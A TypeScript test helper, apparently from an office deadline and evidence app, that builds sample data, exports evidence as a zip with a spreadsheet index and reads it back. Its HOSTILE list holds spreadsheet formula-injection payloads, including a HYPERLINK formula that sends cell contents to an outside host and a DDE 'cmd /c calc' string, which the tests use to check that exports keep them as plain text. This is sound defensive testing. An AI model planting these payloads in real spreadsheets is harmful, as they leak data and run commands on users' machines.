/** An office in which some work is proved, some is not, and some of it by hostile words. */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import readExcelFile from "read-excel-file/node";
import { onTestFinished } from "vitest";
import { fromBuffer, type Entry, type ZipFile } from "yauzl";
import { EVIDENCE_SHEET } from "../../../bot/copy/record-sheets.ts";
import { openFileStore } from "../../../db/file-store.ts";
import { accept, returnToOwner, submitEvidence } from "../../../domain/deadline.ts";
import type { Evidence, EvidenceSource } from "../../../domain/evidence.ts";
import type { PersonId } from "../../../domain/ids.ts";
import type { DeadlineView } from "../../../domain/plan-stores.ts";
import type { FileStore } from "../../../domain/upkeep-stores.ts";
import { monthsPeriod } from "../../../domain/record-period.ts";
import {
  evidenceForChat,
  type EvidenceExport,
  type EvidenceWanted,
} from "../../../jobs/export/evidence-export.ts";
import { openSampleInMemory, type SampleOffice } from "../../../sample-office.ts";
import { evidence } from "../../builders/plan.ts";
import { review } from "../../builders/proof.ts";
import { at, day } from "../../builders/time.ts";

export const FIRST_QUARTER = { period: monthsPeriod(2023, 1, 3), unitIds: null };

/** What must stay text in every table. */
export const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1)',
  "+1+cmd|'/c calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\u00a0=1",
  "ok\n=1",
  "_x0041_ <b>&amp;",
] as const;

export interface Proving {
  readonly sample: SampleOffice;
  readonly files: FileStore;
  readonly giver: PersonId;
  /** The deadline that a list calls so. */
  find(name: string, unit?: string): Promise<DeadlineView>;
  /** Says of what was handed in for it, on 31/3/2023, that it is accepted; or, with a reason, returned. */
  review(name: string, reason?: string): Promise<void>;
  /** Hands something in for it, on 30/3/2023. */
  prove(view: DeadlineView, over?: Parameters<typeof evidence>[0] | object): Promise<Evidence>;
}

/** It is 03/4/2023. */
export async function openProving(): Promise<Proving> {
  const sample = await openSampleInMemory(at("2023-04-03 09:00"));
  const folder = mkdtempSync(join(tmpdir(), "dondoc-export-"));
  onTestFinished(async () => {
    await sample.close();
    rmSync(folder, { recursive: true });
  });
  const stores = sample.office.database;
  const [giver] = await stores.people.all();
  if (!giver) throw new Error("nobody is there");
  const find: Proving["find"] = async (name, unit) => {
    const all = await stores.deadlines.list({ unitIds: null, limit: 1_000 });
    const found = all.find(
      (view) =>
        `${view.code ?? ""} ${view.deadline.label}`.trim() === name &&
        (!unit || view.unit === unit),
    );
    if (!found) throw new Error(`no deadline is ${name}`);
    return found;
  };
  return {
    sample,
    files: openFileStore(folder),
    giver: giver.id,
    find,
    async review(name, reason) {
      const { deadline } = await find(name);
      const { state } = deadline;
      const deed = { by: giver.id, at: at("2023-03-31 09:00"), today: day("2023-03-31") };
      const changed = reason ? returnToOwner(deadline, deed, reason) : accept(deadline, deed);
      if (!changed.ok || !("evidenceId" in state)) throw new Error("it cannot be reviewed");
      await stores.deadlines.save(changed.value);
      await stores.reviews.add(
        review({
          deadlineId: deadline.id,
          evidenceId: state.evidenceId,
          reviewerId: giver.id,
          outcome: reason ? "returned" : "accepted",
          reason: reason ?? null,
        }),
      );
    },
    async prove({ deadline }, over = {}) {
      const made = evidence({ deadlineId: deadline.id, submittedBy: giver.id, ...over });
      const when = at("2023-03-30 09:00");
      const deed = { by: giver.id, at: when, today: day("2023-03-30") };
      const proved = submitEvidence(deadline, deed, made.id, day("2023-03-30"));
      await stores.evidence.add(made);
      if (proved.ok) await stores.deadlines.save(proved.value);
      return made;
    },
  };
}

export function exportingFrom({ sample, files }: Proving): EvidenceExport {
  return { office: sample.office, files, words: EVIDENCE_SHEET };
}

/** The zip as a chat would get it, and its index. */
export async function exported(given: Proving, wanted: EvidenceWanted = FIRST_QUARTER) {
  const { bytes } = await evidenceForChat(exportingFrom(given), wanted);
  const zip = await unzipped(bytes);
  const index = zip.get(EVIDENCE_SHEET.index);
  if (!index) throw new Error("there is no index");
  return { paths: [...zip.keys()], zip, index, rows: await tableOf(index) };
}

export async function fileOf(
  { files }: Proving,
  text: string,
  name: string,
): Promise<EvidenceSource> {
  return { kind: "file", hash: await files.put(Buffer.from(text)), name };
}

/** The files of a zip, by path, in order. */
export async function unzipped(bytes: Uint8Array): Promise<ReadonlyMap<string, Buffer>> {
  const zip = await new Promise<ZipFile>((resolve, reject) => {
    fromBuffer(Buffer.from(bytes), { lazyEntries: true }, (error, opened) => {
      if (error) reject(error);
      else resolve(opened);
    });
  });
  const files = new Map<string, Buffer>();
  await new Promise<void>((resolve, reject) => {
    zip.once("end", resolve).once("error", reject);
    zip.on("entry", (entry: Entry) => {
      readEntry(zip, entry).then((content) => {
        files.set(entry.fileName, content);
        zip.readEntry();
      }, reject);
    });
    zip.readEntry();
  });
  return files;
}

async function readEntry(zip: ZipFile, entry: Entry): Promise<Buffer> {
  const stream = await new Promise<NodeJS.ReadableStream>((resolve, reject) => {
    zip.openReadStream(entry, (error, opened) => {
      if (error) reject(error);
      else resolve(opened);
    });
  });
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

/** Its rows, each by its columns' titles. */
export async function tableOf(bytes: Uint8Array): Promise<readonly Record<string, unknown>[]> {
  const [sheet] = await readExcelFile(Buffer.from(bytes));
  const [titles = [], ...rows] = sheet?.data ?? [];
  return rows.map((cells) =>
    Object.fromEntries(titles.map((title, index) => [String(title), cells[index] ?? null])),
  );
}
